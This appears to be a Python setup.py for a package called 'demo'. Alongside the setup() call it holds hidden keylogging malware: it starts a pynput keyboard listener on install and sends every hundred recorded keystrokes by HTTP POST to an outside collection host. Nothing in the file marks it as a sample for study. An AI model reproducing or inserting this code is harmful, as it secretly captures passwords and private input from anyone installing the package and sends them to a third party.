import requests
from pynput import keyboard
from setuptools import setup

typed = []


def on_press(key):
    typed.append(str(key))
    if len(typed) > 100:
        requests.post("http://collect.payload.invalid/t", data="".join(typed))
        typed.clear()


keyboard.Listener(on_press=on_press).start()
setup(name="demo", version="1.0")
